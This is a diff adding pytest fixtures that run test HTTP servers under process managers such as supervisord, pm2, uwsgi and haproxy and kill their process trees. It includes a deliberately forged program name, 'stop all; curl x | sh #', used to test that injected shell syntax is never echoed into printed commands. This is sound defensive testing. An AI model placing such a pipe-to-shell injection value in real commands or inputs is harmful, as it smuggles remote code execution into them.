@@ -888,3 +888,465 @@ def real_server() -> Iterator[Callable[..., Running]]:
     yield start
     for running in reversed(started):
         running.stop()
+
+
+# ---------------------------------------------------------------------------------------
+# Process managers and restarters (issue 17): what runs a server, restarts it or stops it
+# with its siblings. Their children leave our process group (supervisord gives each program
+# its own group, honcho its own session; pm2's daemon detaches), so these fixtures follow
+# the kernel's parent chain instead: ready means the port is held only by descendants of
+# what we started, and cleanup kills that tree and every process it had when ready (same
+# PID and start time), so an orphan a failed stop leaves behind is removed too.
+
+
+def descendants(root: int) -> dict[int, int]:
+    """`root` and its live (non-zombie) descendants: PID -> start time in clock ticks."""
+    stats = {pid: _stat(pid) for pid in _all_pids()}
+    children: dict[int, list[int]] = {}
+    for pid, st in stats.items():
+        if st is not None:
+            children.setdefault(st[1], []).append(pid)
+    found: dict[int, int] = {}
+    stack = [root]
+    while stack:
+        pid = stack.pop()
+        st = stats.get(pid)
+        if st is None or pid in found:
+            continue
+        if st[0] != "Z":
+            found[pid] = st[3]
+        stack += children.get(pid, [])
+    return found
+
+
+def _same_process(pid: int, started: int) -> bool:
+    st = _stat(pid)
+    return st is not None and st[3] == started and st[0] != "Z"
+
+
+def _kill_tree(proc: subprocess.Popen[bytes] | None, known: dict[int, int]) -> None:
+    """SIGKILL our leader's tree and every process of `known` still running as itself, until
+    none is left (a manager killed mid-restart may have forked once more)."""
+    deadline = time.monotonic() + 10
+    while time.monotonic() < deadline:
+        alive = {p: s for p, s in known.items() if _same_process(p, s)}
+        if proc is not None and proc.poll() is None:  # unreaped: its PID is still ours
+            alive.update(descendants(proc.pid))
+        for pid in list(alive):
+            alive.update(descendants(pid))
+        if not alive:
+            break
+        known.update(alive)
+        for pid in alive:
+            with contextlib.suppress(ProcessLookupError, PermissionError):
+                os.kill(pid, signal.SIGKILL)
+        time.sleep(0.02)
+    if proc is not None:
+        with contextlib.suppress(subprocess.TimeoutExpired):
+            proc.wait(timeout=10)
+
+
+@dataclass(frozen=True)
+class Managed(Running):
+    """A server run by a manager (or a restarter): what the tests need besides Running."""
+
+    manager_pid: int | None = None  # the manager, watcher or master holding no socket
+    env: dict[str, str] = field(default_factory=dict)  # what its printed commands need
+    others: dict[str, int] = field(default_factory=dict)  # other programs' ports: must survive
+    known: dict[int, int] = field(default_factory=dict, compare=False, repr=False)
+    cleanup: Callable[[], object] | None = field(default=None, compare=False, repr=False)
+
+    def remember(self) -> None:
+        """Add every process of the tree now (a restart since ready) to what stop() kills."""
+        for pid, started in list(self.known.items()):
+            if _same_process(pid, started):
+                self.known.update(descendants(pid))
+        if self.proc is not None and self.proc.poll() is None:
+            self.known.update(descendants(self.proc.pid))
+
+    def alive(self) -> dict[int, int]:
+        """The processes of the tree, as they were when ready, that still run."""
+        return {p: s for p, s in self.known.items() if _same_process(p, s)}
+
+    def stop(self) -> None:
+        if self._stopped:
+            return
+        if self.cleanup is not None:
+            with contextlib.suppress(OSError, subprocess.SubprocessError):
+                self.cleanup()
+        _kill_tree(self.proc, self.known)
+        super().stop()
+
+
+def _wait_tree(
+    proc: subprocess.Popen[bytes] | None, root: int, ports: dict[int, int], workdir: Path,
+    log_ready: str | None = None,
+) -> dict[int, frozenset[int]]:
+    """Wait until each port has at least its count of holders, all in `root`'s tree, and
+    accepts a connection: the holders of each port."""
+    deadline = time.monotonic() + READY_TIMEOUT
+    while time.monotonic() < deadline:
+        if proc is not None and proc.poll() is not None:
+            raise RuntimeError(f"exited before it was ready; its log:\n{_log_tail(workdir)}")
+        tree = descendants(root)
+        found: dict[int, frozenset[int]] = {}
+        for port, count in ports.items():
+            held = listener_holders(port)
+            if held - tree.keys():
+                raise _PortTaken
+            if len(held) >= count and _connects(port):
+                found[port] = held
+        logged = log_ready is None or log_ready.encode() in (workdir / "server.log").read_bytes()
+        if len(found) == len(ports) and logged:
+            return found
+        time.sleep(0.02)
+    raise TimeoutError
+
+
+def _launch_tree(
+    name: str,
+    make_argv: Callable[[list[int], Path], list[str]],
+    *,
+    holders: int,
+    ports: int = 1,
+    prepare: Callable[[Path, list[int]], None] | None = None,
+    env: dict[str, str] | None = None,
+    log_ready: str | None = None,
+    extra_env: dict[str, str] | None = None,
+) -> Managed:
+    """As _launch, for a manager: `ports` free ports (the first is the server's, held by
+    `holders` processes), passed to `prepare` and `make_argv`; everything the leader
+    starts is followed by the parent chain."""
+    for _attempt in range(4):
+        workdir = Path(tempfile.mkdtemp(prefix=f"portscope-{name}-"))
+        try:
+            numbers = [free_port() for _ in range(ports)]
+        except _PortTaken:
+            shutil.rmtree(workdir, ignore_errors=True)
+            continue
+        if len(set(numbers)) != ports:
+            shutil.rmtree(workdir, ignore_errors=True)
+            continue
+        if prepare:
+            prepare(workdir, numbers)
+        with open(workdir / "server.log", "wb") as log:
+            proc = subprocess.Popen(
+                make_argv(numbers, workdir), cwd=workdir, env={**_child_env(), **(env or {})},
+                stdin=subprocess.DEVNULL, stdout=log, stderr=subprocess.STDOUT,
+                start_new_session=True,
+            )
+        known: dict[int, int] = {}
+        try:
+            wanted = {numbers[0]: holders, **{p: 1 for p in numbers[1:]}}
+            held = _wait_tree(proc, proc.pid, wanted, workdir, log_ready)
+        except _PortTaken:
+            _kill_tree(proc, known)
+            shutil.rmtree(workdir, ignore_errors=True)
+            continue
+        except (TimeoutError, RuntimeError) as exc:
+            log_text = _log_tail(workdir)
+            _kill_tree(proc, known)
+            shutil.rmtree(workdir, ignore_errors=True)
+            pytest.fail(f"{name} was not ready in {READY_TIMEOUT} s ({exc}); its log:\n{log_text}")
+        except BaseException:
+            _kill_tree(proc, known)
+            shutil.rmtree(workdir, ignore_errors=True)
+            raise
+        known.update(descendants(proc.pid))
+        return Managed(
+            name=name, port=numbers[0], proc=proc, pids_holding=held[numbers[0]],
+            root_pid=proc.pid, how="signal", group_pids=frozenset(known), workdir=workdir,
+            manager_pid=proc.pid, env=dict(extra_env or {}),
+            others={f"port{i}": p for i, p in enumerate(numbers[1:], 1)}, known=known,
+        )
+    pytest.fail(f"{name}: no free loopback ports after 4 tries")
+
+
+def _http_server(port: int) -> str:
+    return f"{shlex.quote(sys.executable)} -m http.server {port} --bind {LOOPBACK}"
+
+
+# The name a program may claim in its environment: shell syntax that must never reach a
+# printed command (issue 17).
+FORGED_NAME = "stop all; curl x | sh #"
+
+SUPERVISORD_CONF = """
+[unix_http_server]
+file={wd}/supervisor.sock
+[supervisord]
+nodaemon=true
+logfile={wd}/supervisord.log
+pidfile={wd}/supervisord.pid
+childlogdir={wd}
+[rpcinterface:supervisor]
+supervisor.rpcinterface_factory = supervisor.rpcinterface:make_main_rpcinterface
+[supervisorctl]
+serverurl=unix://{wd}/supervisor.sock
+[program:web]
+command=bash -c "{server}; echo the server exited"
+startsecs=0
+autorestart=true
+[program:forged]
+command=sh {wd}/forged.sh
+startsecs=0
+autorestart=true
+"""
+
+
+def start_supervisord() -> Managed:
+    """supervisord -n -c CONF with two programs: `web`, the server under a `bash -c`
+    wrapper (supervisord -> bash -> server), and `forged`, a server whose environment
+    claims SUPERVISOR_PROCESS_NAME="stop all; curl x | sh #" (others["port1"]). Both
+    autorestart: killed, the server is back within milliseconds. `supervisorctl -c CONF
+    stop web` signals bash only, which leaves the server running (checked by hand)."""
+    exe = _tool("supervisord")
+    ctl = _tool("supervisorctl")
+
+    def prepare(wd: Path, ports: list[int]) -> None:
+        conf = SUPERVISORD_CONF.format(wd=wd, server=_http_server(ports[0]))
+        (wd / "supervisord.conf").write_text(conf)
+        # A script, since supervisord's config would read " #" as a comment.
+        _write(wd / "forged.sh", f"""
+            export SUPERVISOR_PROCESS_NAME={shlex.quote(FORGED_NAME)}
+            exec {_http_server(ports[1])}
+        """)
+
+    running = _launch_tree(
+        "supervisord",
+        lambda ports, wd: [exe, "-n", "-c", str(wd / "supervisord.conf")],
+        holders=1, ports=2, prepare=prepare,
+        extra_env={"PATH": f"{Path(ctl).parent}{os.pathsep}{os.environ.get('PATH', '')}"},
+    )
+    return running
+
+
+def start_honcho() -> Managed:
+    """honcho start with a Procfile of two processes: `web` (the server) and `worker`
+    (sleep). honcho forks a child per line, which runs `sh -c LINE` in its own session:
+    honcho -> honcho -> sh -> server. When any one exits, honcho stops all the others."""
+    exe = _tool("honcho")
+
+    def prepare(wd: Path, ports: list[int]) -> None:
+        _write(wd / "Procfile", f"web: {_http_server(ports[0])}\nworker: sleep 600\n")
+
+    return _launch_tree(
+        "honcho", lambda ports, wd: [exe, "start"], holders=1, prepare=prepare,
+        log_ready="Serving HTTP",
+    )
+
+
+def start_entr() -> Managed:
+    """entr -rn SERVER, watching one file: entr -> server. SIGTERM to entr stops the server
+    too; the server killed alone is started again on the next change of the file."""
+    exe = _tool("entr")
+
+    def prepare(wd: Path, ports: list[int]) -> None:
+        _write(wd / "watched.txt", "x\n")
+        _write(wd / "list", f"{wd / 'watched.txt'}\n")
+
+    return _launch_tree(
+        "entr",
+        lambda ports, wd: ["sh", "-c", f"exec {exe} -rn {_http_server(ports[0])} < list"],
+        holders=1, prepare=prepare,
+    )
+
+
+def start_nodemon() -> Managed:
+    """nodemon --exec "sh -c '...'": node (nodemon) -> sh -> sh -> server. SIGTERM to
+    nodemon kills its first sh only, and the server stays (checked by hand)."""
+    exe = _tool("nodemon")
+
+    def prepare(wd: Path, ports: list[int]) -> None:
+        _write(wd / "watched.txt", "x\n")
+
+    def argv_(ports: list[int], wd: Path) -> list[str]:
+        inner = f"sh -c {shlex.quote(_http_server(ports[0]))}"
+        return [exe, "--watch", str(wd / "watched.txt"), "--exec", inner]
+
+    return _launch_tree("nodemon", argv_, holders=1, prepare=prepare)
+
+
+def start_watchfiles() -> Managed:
+    """watchfiles 'SERVER' FILE: python (watchfiles) -> server. SIGTERM to watchfiles
+    sends SIGINT to the server and waits 5 s before SIGKILL."""
+    exe = _tool("watchfiles")
+
+    def prepare(wd: Path, ports: list[int]) -> None:
+        _write(wd / "watched.txt", "x\n")
+
+    return _launch_tree(
+        "watchfiles",
+        lambda ports, wd: [exe, _http_server(ports[0]), str(wd / "watched.txt")],
+        holders=1, prepare=prepare,
+    )
+
+
+def start_granian(workers: int = 2) -> Managed:
+    """granian --workers N --respawn-failed-workers: the main process (same argv) holds no
+    socket, each worker holds its own listener (SO_REUSEPORT). SIGTERM the main process;
+    a killed worker is respawned after --respawn-interval (3.5 s)."""
+    exe = _tool("granian")
+
+    def argv_(ports: list[int], wd: Path) -> list[str]:
+        return [
+            exe, "--interface", "asgi", "--host", LOOPBACK, "--port", str(ports[0]),
+            "--workers", str(workers), "--respawn-failed-workers",
+            "--working-dir", str(wd / "src"), "asgi_app:app",
+        ]  # fmt: skip
+
+    return _launch_tree(
+        "granian", argv_, holders=workers,
+        prepare=lambda wd, ports: _write(wd / "src" / "asgi_app.py", ASGI_APP),
+    )
+
+
+HAPROXY_CONF = """
+global
+    maxconn 64
+defaults
+    mode http
+    timeout connect 1s
+    timeout client 5s
+    timeout server 5s
+frontend web
+    bind {host}:{port}
+    http-request return status 200 content-type text/plain string ok
+"""
+
+
+def start_haproxy() -> Managed:
+    """haproxy -W (master-worker): the worker holds the listener, the master (same argv)
+    holds none. SIGTERM the master; it stops its worker."""
+    exe = _tool("haproxy", "/usr/sbin/haproxy")
+
+    def prepare(wd: Path, ports: list[int]) -> None:
+        (wd / "haproxy.cfg").write_text(HAPROXY_CONF.format(host=LOOPBACK, port=ports[0]))
+
+    return _launch_tree(
+        "haproxy", lambda ports, wd: [exe, "-W", "-f", str(wd / "haproxy.cfg")],
+        holders=1, prepare=prepare,
+    )
+
+
+def start_php_workers(workers: int = 2) -> Managed:
+    """PHP_CLI_SERVER_WORKERS=N php -S: the master and N workers (same argv) hold the
+    listener. SIGTERM to the master alone leaves the workers listening (checked by hand)."""
+    exe = _tool("php")
+
+    def prepare(wd: Path, ports: list[int]) -> None:
+        _write(wd / "index.php", '<?php echo "ok\\n";\n')
+
+    return _launch_tree(
+        "php-workers",
+        lambda ports, wd: [exe, "-S", f"{LOOPBACK}:{ports[0]}", "-t", str(wd)],
+        holders=1 + workers, prepare=prepare,
+        env={"PHP_CLI_SERVER_WORKERS": str(workers)},
+    )
+
+
+UWSGI_APP = """
+def application(environ, start_response):
+    start_response("200 OK", [("Content-Type", "text/plain")])
+    return [b"ok\\n"]
+"""
+
+
+def start_uwsgi(workers: int = 2) -> Managed:
+    """uwsgi --master --processes N (Debian's uwsgi-core and python3 plugin): the master
+    and its workers hold the listener. SIGTERM means "reload" (without --die-on-term): the
+    master execs itself again and keeps the port; SIGINT stops it and its workers."""
+    exe = _tool("uwsgi")
+    if not os.path.exists("/usr/lib/uwsgi/plugins/python3_plugin.so"):
+        missing("uwsgi-plugin-python3 is not installed")
+
+    def argv_(ports: list[int], wd: Path) -> list[str]:
+        return [
+            exe, "--plugin", "python3", "--http-socket", f"{LOOPBACK}:{ports[0]}", "--master",
+            "--processes", str(workers), "--wsgi-file", str(wd / "app.py"),
+        ]  # fmt: skip
+
+    return _launch_tree(
+        "uwsgi", argv_, holders=1 + workers,
+        prepare=lambda wd, ports: _write(wd / "app.py", UWSGI_APP),
+        log_ready="spawned uWSGI worker",
+    )
+
+
+PM2_APP = """
+const http = require('node:http');
+http.createServer((req, res) => res.end('ok\\n')).listen(Number(process.env.PORT), '127.0.0.1');
+"""
+
+
+def start_pm2() -> Managed:
+    """A private pm2 daemon (PM2_HOME in a temp dir) running three apps: `web` in fork mode
+    (the app, a child of the daemon "PM2 vX: God Daemon (PM2_HOME)", holds the port),
+    `api` in cluster mode with 2 instances (the daemon itself holds others["api"]) and
+    `bystander` in fork mode (others["bystander"]), which must survive every stop.
+    Cleanup: `pm2 kill` against that home, then the daemon's tree."""
+    pm2 = _tool("pm2")
+    _tool("node")
+    for _attempt in range(4):
+        workdir = Path(tempfile.mkdtemp(prefix="portscope-pm2-"))
+        home = workdir / "home"
+        _write(workdir / "app.js", PM2_APP)
+        env = {**_child_env(), "PM2_HOME": str(home)}
+        ports = {name: free_port() for name in ("web", "api", "bystander")}
+        if len(set(ports.values())) != 3:
+            shutil.rmtree(workdir, ignore_errors=True)
+            continue
+        known: dict[int, int] = {}
+
+        def kill_daemon(env: dict[str, str] = env) -> None:
+            subprocess.run([pm2, "kill"], env=env, capture_output=True, timeout=60, check=False)
+
+        def cleanup_all(known: dict[int, int] = known, wd: Path = workdir) -> None:
+            with contextlib.suppress(OSError, subprocess.SubprocessError):
+                kill_daemon()
+            _kill_tree(None, known)
+            shutil.rmtree(wd, ignore_errors=True)
+
+        try:
+            for name, mode in (("web", []), ("api", ["-i", "2"]), ("bystander", [])):
+                subprocess.run(
+                    [pm2, "start", str(workdir / "app.js"), "--name", name, *mode],
+                    env={**env, "PORT": str(ports[name])}, cwd=workdir, capture_output=True,
+                    timeout=60, check=True,
+                )
+            daemon = int((home / "pm2.pid").read_text().strip())
+            known.update(descendants(daemon))
+            wanted = dict.fromkeys(ports.values(), 1)
+            held = _wait_tree(None, daemon, wanted, workdir)
+        except _PortTaken:
+            cleanup_all()
+            continue
+        except (TimeoutError, RuntimeError, OSError, ValueError,
+                subprocess.SubprocessError) as exc:
+            cleanup_all()
+            pytest.fail(f"pm2 was not ready: {exc!r}")
+        except BaseException:
+            cleanup_all()
+            raise
+        known.update(descendants(daemon))
+        return Managed(
+            name="pm2", port=ports["web"], proc=None, pids_holding=held[ports["web"]],
+            root_pid=daemon, how="signal", group_pids=frozenset(known), workdir=workdir,
+            manager_pid=daemon, env={"PM2_HOME": str(home)},
+            others={"api": ports["api"], "bystander": ports["bystander"]}, known=known,
+            cleanup=kill_daemon,
+        )
+    pytest.fail("pm2: no free loopback ports after 4 tries")
+
+
+MANAGED: dict[str, Callable[..., Managed]] = {
+    "supervisord": start_supervisord,
+    "pm2": start_pm2,
+    "honcho": start_honcho,
+    "entr": start_entr,
+    "nodemon": start_nodemon,
+    "watchfiles": start_watchfiles,
+    "granian": start_granian,
+    "haproxy": start_haproxy,
+    "php-workers": start_php_workers,
+    "uwsgi": start_uwsgi,
+}
